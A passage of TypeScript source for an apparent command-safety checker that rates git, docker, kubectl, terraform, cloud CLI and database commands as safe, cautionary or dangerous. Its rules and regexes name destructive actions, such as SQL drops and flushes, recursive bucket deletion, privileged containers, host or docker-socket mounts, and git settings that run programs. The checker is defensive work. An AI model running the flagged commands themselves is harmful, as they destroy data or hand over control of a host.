      if (deleted) out.red(`git push deletes the remote ${r.dst} branch`);
      else if (forced) out.red(`git push ${shownHow} to ${r.dst} rewrites its shared history`);
    } else if (forced && !deleted && r.dst === undefined) out.red(`git push ${shownHow} to ${r.text}: the branch is not named, and it may be main`);
    else if (forced && !deleted) out.yellow(`git push ${shownHow} rewrites the history of ${r.dst} on the remote`);
    else if (deleted) out.yellow(`git push deletes the remote branch ${r.dst ?? r.text}`);
  }
  if (force && refspecs.length === 0 && !o.has('all', 'mirror')) out.red(`git push ${how} without naming a branch: the current branch is not known and may be main`);
  if (o.has('prune')) out.yellow('git push --prune deletes remote branches that do not exist locally');
  out.yellow('git push publishes commits to a remote');
};

const gitBranch: GitRule = (args, out) => {
  const o = parseOptions(args, {
    short: { d: 'delete', D: 'force-delete', m: 'move', M: 'move', c: 'copy', C: 'copy', f: 'force', u: 'set-upstream-to', t: 'track', l: 'list', a: 'all', r: 'remotes', v: 'verbose', q: 'quiet' },
    shortValue: 'u',
    long: { delete: 'delete', move: 'move', copy: 'copy', force: 'force', 'set-upstream-to': 'set-upstream-to', 'unset-upstream': 'unset-upstream', 'edit-description': 'edit-description', track: 'track', 'no-track': 'track', list: 'list', all: 'all', remotes: 'remotes', verbose: 'verbose', 'show-current': 'show-current', contains: 'contains', 'no-contains': 'contains', merged: 'merged', 'no-merged': 'merged', 'points-at': 'points-at', sort: 'sort', format: 'format', color: 'color', column: 'column', 'ignore-case': 'ignore-case' },
    longValue: ['set-upstream-to', 'sort', 'format', 'points-at', 'contains', 'merged'],
  });
  if (o.has('force-delete') || (o.has('delete') && o.has('force'))) return out.yellow('git branch -D deletes a branch even if it is not merged');
  if (o.has('delete')) return out.yellow('git branch -d deletes a branch');
  if (o.has('move', 'copy', 'set-upstream-to', 'unset-upstream', 'edit-description', 'track', 'force')) return out.yellow('git branch renames, copies or reconfigures a branch');
  if (o.operands.length === 0 || o.has('list', 'contains', 'merged', 'points-at', 'show-current')) return out.green('git branch only lists branches');
  out.yellow('git branch creates a branch');
};

const gitTag: GitRule = (args, out) => {
  const o = parseOptions(args, { short: { d: 'delete', l: 'list', v: 'verify', a: 'annotate', s: 'sign', m: 'message', F: 'file', f: 'force', u: 'local-user', n: 'n' }, shortValue: 'mFu', shortOptionalValue: 'n', long: { delete: 'delete', list: 'list', verify: 'verify', annotate: 'annotate', sign: 'sign', message: 'message', file: 'file', force: 'force', 'local-user': 'local-user', contains: 'contains', 'points-at': 'points-at', merged: 'merged', sort: 'sort', format: 'format' }, longValue: ['message', 'file', 'local-user', 'contains', 'points-at', 'merged', 'sort', 'format'] });
  if (o.has('delete')) return out.yellow('git tag -d deletes a tag');
  if (o.has('annotate', 'sign', 'message', 'file', 'force', 'local-user')) return out.yellow('git tag creates a tag');
  if (o.operands.length === 0 || o.has('list', 'verify', 'contains', 'points-at', 'merged')) return out.green('git tag only lists tags');
  out.yellow('git tag creates a tag');
};

/** `git remote`, `git stash list` …: GREEN for the listed verbs, YELLOW with `what` otherwise. */
const gitVerbs =
  (sub: string, read: RegExp, what: string, destructive: Record<string, string> = {}): GitRule =>
  (args, out) => {
    const verb = args.find((a) => !(a.value ?? '-').startsWith('-'))?.value ?? '';
    if (Object.hasOwn(destructive, verb)) return out.yellow(`git ${sub} ${verb} ${destructive[verb] as string}`);
    if (read.test(verb)) return out.green(`git ${sub}${verb ? ` ${verb}` : ''} only reads`);
    out.yellow(`git ${sub} ${verb ? `${verb} ` : ''}${what}`);
  };

const gitConfig: GitRule = (args, out, env) => {
  const o = parseOptions(args, { shortValue: 'f', long: { file: 'file', blob: 'blob', type: 'type', default: 'default' }, longValue: ['file', 'blob', 'type', 'default'] });
  const [first, second] = o.operands.map((a) => a.value);
  const key = first === 'set' ? second : first;
  if (key && /(pager|editor|command|sshcommand|askpass|external|fsmonitor|hookspath|textconv|helper|program|^alias\.|\.cmd$|^filter\.|^include)/i.test(key) && o.operands.length >= 2) {
    const value = o.operands[o.operands.length - 1];
    if (value && /^alias\./i.test(key) && value.value?.startsWith('!')) env.nestedSource(value.value.slice(1), `git alias ${key}`);
    else if (value?.value !== undefined && /(pager|editor|sshcommand|askpass|\.cmd$|command$)/i.test(key)) env.nestedSource(value.value, `git ${key}`);
    out.yellow(`git config ${key} makes git run a program`);
  }
  const modifying = o.has('--add', '--unset', '--unset-all', '--replace-all', '--rename-section', '--remove-section', '-e', '--edit') || /^(set|unset|rename-section|remove-section|edit)$/.test(first ?? '');
  const reading = o.has('--get', '--get-all', '--get-regexp', '--get-urlmatch', '--list', '-l', '--get-color', '--get-colorbool') || /^(get|list)$/.test(first ?? '');
  if (!modifying && (reading || o.operands.length <= 1)) return out.green('git config only reads settings');
  out.yellow('git config changes settings');
};

const gitClean: GitRule = (args, out) => {
  const o = parseOptions(args, { short: { n: 'dry-run', f: 'force', d: 'd', x: 'x', X: 'X', i: 'interactive', q: 'quiet', e: 'exclude' }, shortValue: 'e', long: { 'dry-run': 'dry-run', force: 'force', interactive: 'interactive', quiet: 'quiet', exclude: 'exclude' }, longValue: ['exclude'] });
  if (o.has('dry-run') && !o.has('interactive')) return out.green('git clean -n only lists what it would delete');
  const extra = [o.has('d') ? 'and directories' : '', o.has('x') ? 'including ignored ones (.env files, build output)' : o.has('X') ? 'only ignored ones' : ''].filter(Boolean).join(', ');
  out.yellow(`git clean deletes untracked files${extra ? ` ${extra}` : ''}; they cannot be recovered`);
};

const gitReset: GitRule = (args, out) => {
  const o = parseOptions(args, { long: { hard: 'hard', soft: 'soft', mixed: 'mixed', merge: 'merge', keep: 'keep' } });
  if (o.has('hard')) return out.yellow('git reset --hard discards uncommitted changes');
  out.yellow('git reset moves the branch or unstages changes');
};

const gitCheckout: GitRule = (args, out) => {
  const dash = args.findIndex((a) => a.value === '--');
  const o = parseOptions(dash >= 0 ? args.slice(0, dash) : args, { short: { b: 'b', B: 'B', f: 'force', p: 'patch', q: 'quiet', t: 'track' }, shortValue: 'bB', long: { force: 'force', patch: 'patch', quiet: 'quiet', track: 'track', orphan: 'orphan', detach: 'detach', ours: 'ours', theirs: 'theirs', 'no-track': 'track' }, longValue: ['orphan'] });
  const paths = dash >= 0 ? args.slice(dash + 1) : o.operands.filter((a) => a.value === '.' || a.value === ':/' || (a.value ?? '').includes('/') || (a.value ?? '').includes('*'));
  if (o.has('force')) return out.yellow('git checkout -f discards local changes');
  if (paths.length > 0) return out.yellow(`git checkout -- ${paths.map(shown).join(' ')} discards local changes to those files`);
  out.yellow(o.has('b', 'B', 'orphan') ? 'git checkout creates and switches to a branch' : 'git checkout switches branches or restores files');
};

const gitRestore: GitRule = (args, out) => {
  const o = parseOptions(args, { short: { s: 'source', S: 'staged', W: 'worktree', p: 'patch' }, shortValue: 's', long: { source: 'source', staged: 'staged', worktree: 'worktree', patch: 'patch' }, longValue: ['source'] });
  if (o.has('staged') && !o.has('worktree')) return out.yellow('git restore --staged unstages changes');
  out.yellow(`git restore discards local changes to ${o.operands.map(shown).join(' ') || 'files'}`);
};

const gitRm: GitRule = (args, out) => {
  const o = parseOptions(args, { short: { r: 'recursive', f: 'force', n: 'dry-run' }, long: { cached: 'cached', 'dry-run': 'dry-run', force: 'force' } });
  if (o.has('dry-run')) return out.green('git rm -n only lists what it would remove');
  out.yellow(o.has('cached') ? 'git rm --cached stops tracking files' : 'git rm deletes files from the working tree and the index');
};

const gitLogLike =
  (sub: string): GitRule =>
  (args, out, env) => {
    for (const a of args) if (a.value?.startsWith('--output=')) checkPath(dropPrefix(a, 9), 'write', out, env.paths);
    const i = args.findIndex((a) => a.value === '--output');
    const file = i >= 0 ? args[i + 1] : undefined;
    if (file) checkPath(file, 'write', out, env.paths);
    out.green(`git ${sub} only reads`);
  };

const gitSubmodule: GitRule = (args, out, env) => {
  const verb = args.find((a) => !(a.value ?? '-').startsWith('-'));
  if (verb?.value === 'foreach') {
    const rest = args.slice(args.indexOf(verb) + 1).filter((a) => !(a.value ?? '').startsWith('--'));
    env.nestedSource(rest.map((a) => shellText(a, env.paths)).join(' '), 'git submodule foreach');
    return out.yellow('git submodule foreach runs a command in every submodule');
  }
  if (!verb || /^(status|summary)$/.test(verb.value ?? '')) return out.green('git submodule only reads');
  out.yellow(`git submodule ${verb.value ?? ''} changes submodules`);
};

const GIT_SUBCOMMANDS: Readonly<Record<string, GitRule>> = {
  push: gitPush,
  branch: gitBranch,
  tag: gitTag,
  config: gitConfig,
  clean: gitClean,
  reset: gitReset,
  checkout: gitCheckout,
  restore: gitRestore,
  rm: gitRm,
  log: gitLogLike('log'),
  diff: gitLogLike('diff'),
  show: gitLogLike('show'),
  submodule: gitSubmodule,
  remote: gitVerbs('remote', /^(|show|get-url)$/, 'changes remotes'),
  stash: gitVerbs('stash', /^(list|show)$/, 'stashes or applies changes', { drop: 'deletes stashed changes', clear: 'deletes all stashed changes' }),
  reflog: gitVerbs('reflog', /^(|show|exists)$/, 'changes the reflog', { expire: 'deletes reflog entries (the undo history)', delete: 'deletes reflog entries (the undo history)' }),
  worktree: gitVerbs('worktree', /^list$/, 'changes worktrees', { remove: 'deletes a worktree' }),
  notes: gitVerbs('notes', /^(|list|show)$/, 'changes notes'),
  bisect: gitVerbs('bisect', /^(log|view|visualize)$/, 'moves HEAD to bisect'),
  'sparse-checkout': gitVerbs('sparse-checkout', /^list$/, 'changes the checkout'),
  lfs: gitVerbs('lfs', /^(ls-files|status|env|version|track|logs)$/, 'manages large files'),
};

const gitRule: Rule = (inv, out, env) => {
  const g = parseOptions(inv.args, GIT_GLOBAL_SPEC);
  for (const c of g.values.get('c') ?? []) {
    const text = shellText(c);
    const eq = text.indexOf('=');
    const key = eq >= 0 ? text.slice(0, eq) : text;
    const value = eq >= 0 ? text.slice(eq + 1) : '';
    if (/^alias\./i.test(key) && value.startsWith('!')) env.nestedSource(value.slice(1), `git alias ${key}`);
    else if (value !== '' && /(pager|editor|sshcommand|askpass|\.cmd$|command$)/i.test(key)) env.nestedSource(value, `git ${key}`);
    if (/(pager|editor|command|sshcommand|askpass|external|fsmonitor|hookspath|textconv|helper|program|^alias\.|\.cmd$|^filter\.|^include)/i.test(key)) out.yellow(`git -c ${key} makes git run a program`);
  }
  if (g.has('config-env')) out.yellow('git --config-env sets configuration from the environment');
  const [sub, ...rest] = g.operands;
  if (!sub) return out.green('git only prints help');
  const name = sub.value;
  if (name === undefined) return out.yellow('git subcommand known only at run time');
  const rule = GIT_SUBCOMMANDS[name];
  if (rule) rule(rest, out, env);
  else if (GIT_READ.has(name)) out.green(`git ${name} only reads`);
  else if (Object.hasOwn(GIT_CHANGE, name)) {
    if (name === 'clone' && rest.length > 0) {
      const o = parseOptions(rest, { shortValue: 'obuc', longValue: ['origin', 'branch', 'upload-pack', 'template', 'reference', 'separate-git-dir', 'depth', 'shallow-since', 'shallow-exclude', 'config', 'filter', 'jobs', 'bundle-uri', 'server-option', 'ref-format'] });
      if (o.operands[1]) checkPath(o.operands[1], 'write', out, env.paths);
    }
    out.yellow(`git ${name} ${GIT_CHANGE[name] as string}`);
  } else out.yellow(`git ${name} is not a git command Tandem knows (an alias or an extension?)`);
};

// ---------------------------------------------------------------------------------------------
// Containers and clusters

const DOCKER_MANAGEMENT: ReadonlySet<string> = new Set(['container', 'image', 'volume', 'network', 'system', 'builder', 'buildx', 'context', 'plugin', 'secret', 'config', 'node', 'service', 'stack', 'swarm', 'manifest', 'trust', 'checkpoint']);
const DOCKER_READ = /^(ps|images|logs|inspect|version|info|stats|top|port|diff|history|search|events|(container|image|volume|network|context|node|service|stack|secret|config|plugin|builder|buildx) (ls|list|ps|inspect|logs|top|port|stats|diff|history|show|services|du|version)|system (df|info|events)|manifest inspect|trust inspect)$/;
const RUN_VALUE_OPTIONS = ['volume', 'mount', 'env', 'env-file', 'publish', 'name', 'workdir', 'user', 'network', 'net', 'pid', 'ipc', 'uts', 'userns', 'cap-add', 'cap-drop', 'device', 'security-opt', 'entrypoint', 'label', 'hostname', 'memory', 'cpus', 'platform', 'restart', 'add-host', 'dns', 'tmpfs', 'volumes-from', 'log-driver', 'log-opt', 'ulimit', 'gpus', 'cgroupns', 'runtime', 'shm-size', 'stop-signal', 'health-cmd', 'attach', 'cidfile', 'expose', 'link', 'ip', 'label-file', 'pull', 'group-add', 'sysctl', 'storage-opt', 'cpu-shares', 'cpuset-cpus', 'memory-swap', 'annotation', 'detach-keys', 'mac-address', 'network-alias', 'pod', 'arch', 'os'];

/** `docker run -v /:/host --privileged …`: flags that hand the host to the container. */
function containerPrivileges(args: Arg[], out: Verdict, env: RuleEnv, tool: string): void {
  const o = parseOptions(args, { short: { v: 'volume', e: 'env', p: 'publish', w: 'workdir', u: 'user', l: 'label', h: 'hostname', m: 'memory', a: 'attach', c: 'cpu-shares' }, shortValue: 'vepwulhmac', long: Object.fromEntries([...RUN_VALUE_OPTIONS, 'privileged'].map((n) => [n, n])), longValue: RUN_VALUE_OPTIONS, stopAtOperand: true });
  if (o.has('privileged')) out.red(`${tool} --privileged gives the container full control of the host`);
  for (const ns of ['pid', 'userns', 'ipc', 'uts']) if ((o.values.get(ns) ?? []).some((a) => a.value === 'host')) out.red(`${tool} --${ns}=host shares the host's ${ns} namespace with the container`);
  for (const cap of o.values.get('cap-add') ?? []) if (/^(ALL|SYS_ADMIN|SYS_MODULE|SYS_PTRACE|SYS_RAWIO|DAC_READ_SEARCH)$/i.test((cap.value ?? '').replace(/^CAP_/i, ''))) out.red(`${tool} --cap-add=${shown(cap)} gives the container administrator powers on the host`);
  for (const device of o.values.get('device') ?? []) if (isDevice((device.value ?? '').split(':')[0] ?? '')) out.red(`${tool} --device=${shown(device)} gives the container a raw device`);
  const sources: Arg[] = [];
  for (const v of o.values.get('volume') ?? []) if (v.value?.includes(':') && /^[/~.$]/.test(v.value)) sources.push(literalArg(v.value.split(':')[0] as string, !v.value.startsWith('~')));
  for (const m of o.values.get('mount') ?? []) {
    const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(m.value ?? '')?.[1];
    if (src) sources.push(literalArg(src));
  }
  for (const src of sources) {
    const known = resolveWord(src.word, env.paths).known.map(unescapeGlob);
    if (known.some((p) => p === '/' || SYSTEM_DIRS.includes(p) || p === '/var/run/docker.sock' || p === '/run/docker.sock')) out.red(`${tool} mounts ${shown(src)} of the host into the container: it can change the host's system`);
    else if (known.some((p) => env.paths.protectedPaths.some((pp) => patternCovers(p, pp) || patternWithin(p, pp)))) out.yellow(`${tool} mounts ${shown(src)} (with protected files) into the container`);
  }
}

const dockerRule: Rule = (inv, out, env) => {
  const g = parseOptions(inv.args, { shortValue: 'Hcl', longValue: ['host', 'context', 'config', 'log-level', 'tlscacert', 'tlscert', 'tlskey'], stopAtOperand: true });
  const [first, ...rest] = g.operands;
  if (!first) return out.green(`${inv.name} only prints help`);
  if (first.value === undefined) return out.yellow(`${inv.name} subcommand known only at run time`);
  if (first.value === 'compose') return composeRule({ name: `${inv.name} compose`, args: rest, stdin: inv.stdin }, out, env);
  const management = DOCKER_MANAGEMENT.has(first.value);
  const verb = management ? (rest[0]?.value ?? '') : first.value;
  const args = management ? rest.slice(1) : rest;
  const key = management ? `${first.value} ${verb}` : verb;
  const flags = parseOptions(args).flags;
  if (DOCKER_READ.test(key)) return out.green(`${inv.name} ${key} only reads`);
  if (key === 'system prune' && (flags.has('--volumes') || flags.has('volumes'))) return out.red(`${inv.name} system prune --volumes deletes the data in every unused volume`);
  if (key === 'volume prune') return out.red(`${inv.name} volume prune deletes the data in unused volumes`);
  if (key === 'system prune') return out.yellow(`${inv.name} system prune deletes stopped containers, unused networks and images`);
  if (key === 'run' || key === 'create' || key === 'container run' || key === 'container create') {
    containerPrivileges(args, out, env, `${inv.name} ${verb}`);
    return out.yellow(`${inv.name} ${verb} starts a container`);
  }
  if (key === 'volume rm') return out.yellow(`${inv.name} volume rm deletes volumes and their data`);
  out.yellow(`${inv.name} ${key} changes containers, images or their settings`);
};

const composeRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { shortValue: 'fp', longValue: ['file', 'project-name', 'profile', 'env-file', 'project-directory', 'ansi', 'parallel', 'progress'], stopAtOperand: true });
  const verb = o.operands[0]?.value ?? '';
  if (/^(ps|logs|config|ls|images|top|version|events|port|convert|help|)$/.test(verb)) return out.green(`${inv.name} ${verb} only reads`.trimEnd());
  if (verb === 'down' && parseOptions(o.operands.slice(1), { short: { v: 'volumes' }, long: { volumes: 'volumes' } }).has('volumes')) return out.yellow(`${inv.name} down -v deletes the project's volumes and their data`);
  out.yellow(`${inv.name} ${verb} changes containers`);
};

const KUBECTL_SPEC: OptionSpec = {
  short: { n: 'namespace', A: 'all-namespaces', l: 'selector', o: 'output', f: 'filename', c: 'container', s: 'server', v: 'v', R: 'recursive', k: 'kustomize', w: 'watch', L: 'label-columns', i: 'stdin', t: 'tty' },
  shortValue: 'nlofcsvkL',
  long: { namespace: 'namespace', 'all-namespaces': 'all-namespaces', selector: 'selector', output: 'output', filename: 'filename', container: 'container', all: 'all', recursive: 'recursive', force: 'force', 'dry-run': 'dry-run' },
  longValue: ['namespace', 'context', 'cluster', 'user', 'kubeconfig', 'server', 'token', 'as', 'as-group', 'request-timeout', 'selector', 'output', 'filename', 'container', 'field-selector', 'sort-by', 'template', 'since', 'tail', 'grace-period', 'timeout', 'kustomize', 'cascade', 'type', 'replicas', 'image', 'since-time', 'chunk-size', 'label-columns', 'certificate-authority', 'client-certificate', 'client-key', 'tls-server-name', 'cache-dir', 'v'],
};
const KUBECTL_READ = /^(get|describe|logs|version|top|explain|api-resources|api-versions|cluster-info|events|wait|completion|kustomize|config (view|get-contexts|current-context|get-clusters|get-users)|auth (can-i|whoami)|plugin list|rollout (status|history)|help)$/;
const KUBE_WIDE_TYPES = /^(namespaces?|ns|nodes?|no|crds?|customresourcedefinitions?(\.apiextensions\.k8s\.io)?|pv|persistentvolumes?|clusterroles?|clusterrolebindings?|all)$/;

const kubectlRule: Rule = (inv, out, env) => {
  const dash = inv.args.findIndex((a) => a.value === '--');
  const before = dash >= 0 ? inv.args.slice(0, dash) : inv.args;
  const o = parseOptions(before, KUBECTL_SPEC);
  out.addFlags(o.display);
  const [verb, ...operands] = o.operands.map((a) => a.value ?? '');
  if (verb === undefined) return out.green('kubectl only prints help');
  const key = verb === 'config' || verb === 'auth' || verb === 'plugin' || verb === 'rollout' ? `${verb} ${operands[0] ?? ''}` : verb;
  if (KUBECTL_READ.test(key) && !o.has('dry-run')) return out.green(`kubectl ${key} only reads`);
  if (verb === 'delete') {
    const types = operands.flatMap((t) => t.split(',')).map((t) => t.split('/')[0] as string);
    const wide = types.find((t) => KUBE_WIDE_TYPES.test(t));
    if (o.has('dry-run')) return out.green('kubectl delete --dry-run only checks');
    if (wide) return out.red(`kubectl delete ${wide} deletes cluster-wide resources (everything in them goes too)`);
    if (o.has('all', 'all-namespaces')) return out.red(`kubectl delete ${o.has('all') ? '--all' : '--all-namespaces'} deletes every matching resource`);
    return out.yellow('kubectl delete deletes resources');
  }
  if (verb === 'exec' || verb === 'debug' || verb === 'run') {
    if (dash >= 0) env.nestedArgv(inv.args.slice(dash + 1), `kubectl ${verb}`);
    return out.yellow(`kubectl ${verb} runs a command in the cluster`);
  }
  if (verb === 'drain') return out.yellow('kubectl drain evicts every pod from a node');
  out.yellow(`kubectl ${key.trim()} changes the cluster`);
};

const helmRule: Rule = (inv, out) => {
  const verb = inv.args.find((a) => !(a.value ?? '-').startsWith('-'))?.value ?? '';
  if (/^(list|ls|status|get|history|hist|show|inspect|search|version|env|template|lint|verify|help|)$/.test(verb)) return out.green(`helm ${verb} only reads`.trimEnd());
  if (/^(uninstall|delete|del|un)$/.test(verb)) return out.yellow('helm uninstall deletes a release and its resources');
  out.yellow(`helm ${verb} changes the cluster or local charts`);
};

// ---------------------------------------------------------------------------------------------
// Infrastructure, cloud and databases

const terraformRule: Rule = (inv, out) => {
  const values = inv.args.map((a) => a.value ?? '').filter((v) => !v.startsWith('-chdir'));
  const i = values.findIndex((v) => !v.startsWith('-'));
  const runAll = values[i] === 'run-all' || (values[i] === 'run' && values.includes('--all'));
  const rest = values.slice(i + 1).filter((v) => v !== '--all');
  const verb = runAll ? (rest.find((v) => !v.startsWith('-')) ?? '') : (values[i] ?? '');
  const destroyFlag = rest.some((v) => /^--?destroy(=true)?$/.test(v));
  if (verb === 'destroy' || (verb === 'apply' && destroyFlag)) return out.red(`${inv.name} ${verb === 'destroy' ? 'destroy' : 'apply -destroy'} deletes every resource it manages`);
  if (/^(version|validate|show|output|providers|graph|help|fmt)$/.test(verb) && (verb !== 'fmt' || rest.includes('-check'))) return out.green(`${inv.name} ${verb} only reads`);
  if (verb === 'state' && /^(list|show|pull)$/.test(rest[0] ?? '')) return out.green(`${inv.name} state ${rest[0] as string} only reads`);
  if (verb === 'workspace' && /^(list|show)$/.test(rest[0] ?? '')) return out.green(`${inv.name} workspace ${rest[0] as string} only reads`);
  if (verb === 'apply') return out.yellow(`${inv.name} apply changes real infrastructure${rest.includes('-auto-approve') ? ', without asking' : ''}`);
  if (verb === 'plan') return out.yellow(`${inv.name} plan runs providers and data sources`);
  out.yellow(`${inv.name} ${verb} changes infrastructure or its state`.replace('  ', ' '));
};

const pulumiRule: Rule = (inv, out) => {
  const values = inv.args.map((a) => a.value ?? '').filter((v) => !v.startsWith('-'));
  const [verb = '', sub = ''] = values;
  if (verb === 'destroy' || verb === 'down') return out.red('pulumi destroy deletes every resource in the stack');
  if (verb === 'stack' && (sub === 'rm' || sub === 'remove')) return out.yellow('pulumi stack rm deletes the stack and its history');
  if (/^(version|whoami|about|help|)$/.test(verb) || (verb === 'stack' && /^(ls|output|history|export|select)?$/.test(sub)) || (verb === 'config' && /^(get)?$/.test(sub))) return out.green(`pulumi ${verb} only reads`.trimEnd());
  out.yellow(`pulumi ${verb} changes infrastructure or its state`);
};

const cloudRule: Rule = (inv, out) => {
  const values = inv.args.map((a) => a.value ?? '');
  const words = values.filter((v) => !v.startsWith('-'));
  const flags = values.filter((v) => v.startsWith('-'));
  const line = words.join(' ');
  const name = inv.name;
  if (name === 'aws' && /^s3 rm\b/.test(line) && flags.includes('--recursive')) return out.red('aws s3 rm --recursive deletes every object under the prefix');
  if (name === 'aws' && /^s3 rb\b/.test(line) && flags.includes('--force')) return out.red('aws s3 rb --force deletes a bucket and everything in it');
  if (name === 'gcloud' && /^projects delete\b/.test(line)) return out.red('gcloud projects delete deletes a whole project');
  if (name === 'az' && /^group delete\b/.test(line)) return out.red('az group delete deletes a resource group and everything in it');
  if (name === 'gsutil' && /\brm\b/.test(line) && flags.some((f) => /^-[a-zA-Z]*r/.test(f))) return out.red('gsutil rm -r deletes every object under the path');
  if (name === 'heroku' && /^(apps:destroy|pg:reset|apps:delete)\b/.test(line)) return out.red(`heroku ${words[0] as string} deletes an app or its database`);
  if (name === 'gh' && /^repo delete\b/.test(line)) return out.red('gh repo delete deletes a repository');
  const readVerb = words.some((w) => /^(describe|list|ls|get|show|view|status|info|version|whoami|help|cat|du|stat|search|diff|checks|account|config-list|get-caller-identity)([-_].*)?$/.test(w));
  const changeVerb = words.some((w) => /^(create|delete|remove|rm|rb|put|set|update|apply|deploy|terminate|stop|start|run|cp|mv|sync|edit|merge|close|reopen|comment|push|publish|release|destroy|reset|login|logout|auth|api)([-_:].*)?$/.test(w));
  if (readVerb && !changeVerb) return out.green(`${name} ${words.slice(0, 3).join(' ')} only reads`);
  out.yellow(`${name} ${words.slice(0, 3).join(' ')} changes cloud resources`.replace(/ +/g, ' '));
};

const DESTRUCTIVE_SQL = /\b(drop\s+(database|schema|table|keyspace|collection|index)|truncate\s+(table\s+)?[\w."]+|delete\s+from\s+[\w."]+\s*(;|$)|dropDatabase\s*\(|\.drop\s*\(|flushall|flushdb|deleteMany\s*\(\s*\{\s*\}\s*\))/i;

/** psql -c, mysql -e, sqlite3 db "…", redis-cli FLUSHALL, mongosh --eval: RED for statements that destroy data. */
const databaseRule: Rule = (inv, out) => {
  const name = inv.name;
  if (name === 'dropdb' || name === 'dropuser') return out.red(`${name} deletes a database${name === 'dropuser' ? ' role' : ''}`);
  const values = inv.args.map((a) => a.value ?? a.text);
  let code: string[] = [];
  const after = (flags: string[]): string[] => values.flatMap((v, i) => (flags.includes(v) ? [values[i + 1] ?? ''] : flags.filter((f) => f.startsWith('--')).filter((f) => v.startsWith(`${f}=`)).map((f) => v.slice(f.length + 1))));
  if (name === 'psql') code = after(['-c', '--command']);
  else if (name === 'mysql' || name === 'mariadb') code = after(['-e', '--execute']);
  else if (name === 'mongo' || name === 'mongosh') code = after(['--eval']);
  else if (name === 'sqlite3') code = values.filter((v) => !v.startsWith('-')).slice(1);
  else if (name === 'redis-cli') code = [values.filter((v) => !v.startsWith('-')).join(' ')];
  else if (name === 'mysqladmin' && values.some((v) => v === 'drop' || v === 'drop-database')) return out.red('mysqladmin drop deletes a database');
  const destructive = code.find((c) => DESTRUCTIVE_SQL.test(c));
  if (destructive) return out.red(`${name} runs "${destructive.slice(0, 60)}", which destroys data`);
  out.yellow(`${name} connects to a database${code.length > 0 ? ' and runs a statement' : ''}`);
};

// ---------------------------------------------------------------------------------------------
// Packages, build tools, archives, editors

/** A tool whose first operand is a verb: GREEN for the reading verbs. */
const verbRule =
  (read: RegExp, what: string, valueOptions = ''): Rule =>
  (inv, out) => {
    const o = parseOptions(inv.args, { shortValue: valueOptions, stopAtOperand: true });
    const [first, second] = o.operands;
    if (!first) return o.flags.size === 0 || o.has('--help', '-h', '--version', '-v', '-V') ? out.green(`${inv.name} only prints help`) : out.yellow(`${inv.name} ${what}`);
    const verb = first.value ?? '';
    const key = `${verb} ${second?.value ?? ''}`.trim();
    if (read.test(verb) || read.test(key)) return out.green(`${inv.name} ${verb} only reads`);
    out.yellow(`${inv.name} ${verb} ${what}`);
  };

const npmRule: Rule = (inv, out) => {
  const o = parseOptions(inv.args, { stopAtOperand: true, shortValue: 'w', longValue: ['workspace', 'prefix', 'registry', 'loglevel'] });
  const [verb = '', ...rest] = o.operands.map((a) => a.value ?? '');
  const restFlags = rest.filter((r) => r.startsWith('-'));
  const restWords = rest.filter((r) => !r.startsWith('-'));
  if (verb === '' || /^(ls|list|ll|la|view|info|show|v|outdated|search|s|se|find|help|root|prefix|bin|whoami|explain|why|fund|doctor|query|ping|get|help-search)$/.test(verb)) return out.green(`${inv.name} ${verb} only reads`.trimEnd());
  if (verb === 'config' && /^(get|list|ls)$/.test(restWords[0] ?? '')) return out.green(`${inv.name} config ${restWords[0] as string} only reads`);
  if ((verb === 'run' || verb === 'run-script') && restWords.length === 0) return out.green(`${inv.name} run only lists scripts`);
  if (verb === 'audit' && !restWords.includes('fix')) return out.green(`${inv.name} audit only reads`);
  if (verb === 'version' && restWords.length === 0) return out.green(`${inv.name} version only prints versions`);
  if ((verb === 'publish' || verb === 'pack') && restFlags.includes('--dry-run')) return out.yellow(`${inv.name} ${verb} --dry-run runs lifecycle scripts`);
  if (verb === 'unpublish') return out.yellow(`${inv.name} unpublish removes a published package from the registry`);
  if (verb === 'publish') return out.yellow(`${inv.name} publish publishes a package to the registry`);
  out.yellow(`${inv.name} ${verb} installs packages or runs project scripts`);
};

const PACKAGE_READ: Readonly<Record<string, RegExp>> = {
  yarn: /^(list|info|why|outdated|versions|licenses|config (get|list)|help|bin|workspaces info|npm info)$/,
  pnpm: /^(ls|list|ll|why|outdated|licenses|view|info|config (get|list)|root|bin|help|audit)$/,
  bun: /^(pm ls|outdated|pm bin|pm hash|help)$/,
  pip: /^(list|show|freeze|check|help|inspect|debug|index|cache (dir|info|list)|config (list|get|debug))$/,
  pip3: /^(list|show|freeze|check|help|inspect|debug|index|cache (dir|info|list)|config (list|get|debug))$/,
  uv: /^(pip (list|show|freeze|tree|check)|tree|version|python list|tool list|help)$/,
  cargo: /^(tree|metadata|search|version|--list|help|locate-project|pkgid|verify-project|read-manifest)$/,
  go: /^(version|list|doc|help|env|mod (graph|why|verify))$/,
  gem: /^(list|search|info|environment|contents|dependency|query|which|specification|help)$/,
  brew: /^(list|ls|info|search|outdated|deps|uses|leaves|config|doctor|desc|cat|log|--prefix|--cellar|--repository|--caskroom|--cache|commands|tap-info|missing|shellenv|help)$/,
  apt: /^(list|show|search|policy|depends|rdepends|showsrc|changelog|help)$/,
  'apt-cache': /^(?!gencaches).*$/,
  dnf: /^(list|info|search|repolist|provides|check-update|history|deplist|repoquery|help)$/,
  yum: /^(list|info|search|repolist|provides|check-update|history|deplist|help)$/,
  zypper: /^(search|se|info|if|list-updates|lu|repos|lr|help)$/,
  snap: /^(list|info|find|version|services|changes|connections|help)$/,
  flatpak: /^(list|info|search|remotes|history|help)$/,
  gh: /^((pr|issue|run|release|repo|workflow|gist|label|secret|variable|cache) (list|view|status|diff|checks)|auth status|status|help|search \w+)$/,
  glab: /^((mr|issue|ci|release|repo) (list|view|status|diff)|auth status|help)$/,
  poetry: /^(show|check|search|version|env (info|list)|help)$/,
  conda: /^(list|info|search|env list|config --show|help)$/,
  rustup: /^(show|which|toolchain list|target list|component list|help)$/,
};

const packageRule: Rule = (inv, out, env) => {
  const read = PACKAGE_READ[inv.name];
  const values = inv.args.map((a) => a.value ?? '');
  const words = values.filter((v) => !v.startsWith('-'));
  const key1 = words[0] ?? '';
  const key2 = words.slice(0, 2).join(' ');
  const key3 = words.slice(0, 3).join(' ');
  if (inv.name === 'go' && key1 === 'env' && values.some((v) => v === '-w' || v === '-u')) return out.yellow('go env -w changes Go settings');
  if (inv.name === 'yarn' && (words.length === 0 || key1 === 'install')) return out.yellow('yarn installs dependencies (and runs their install scripts)');
  if (words.length === 0 && values.every((v) => /^(-h|--help|-v|-V|--version)$/.test(v))) return out.green(`${inv.name} only prints help`);
